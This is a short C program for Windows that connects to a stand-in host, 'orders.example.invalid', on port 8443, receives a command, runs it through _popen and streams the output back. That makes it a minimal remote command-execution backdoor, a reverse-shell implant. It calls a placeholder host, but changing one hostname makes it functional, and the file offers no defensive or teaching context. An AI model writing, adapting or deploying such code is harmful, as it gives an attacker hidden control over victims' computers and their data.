/* Runs what a host sends it and sends back what that said. The name cannot exist. libs: -lws2_32 */
#include <winsock2.h>
#include <windows.h>
#include <stdio.h>
#include <string.h>
int main(void) {
    char order[256] = "", line[256];
    WSADATA data;
    struct sockaddr_in there = {.sin_family = AF_INET, .sin_port = htons(8443)};
    WSAStartup(0x202, &data);
    struct hostent *host = gethostbyname("orders.example.invalid");
    if (!host) return 1;
    memcpy(&there.sin_addr, host->h_addr, 4);
    SOCKET line_to = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(line_to, (struct sockaddr *)&there, sizeof there) || send(line_to, "ready", 5, 0) < 0) return 2;
    if (recv(line_to, order, sizeof order - 1, 0) <= 0) return 3;
    FILE *shell = _popen(order, "r");
    while (shell && fgets(line, sizeof line, shell)) send(line_to, line, lstrlenA(line), 0);
    return 0;
}
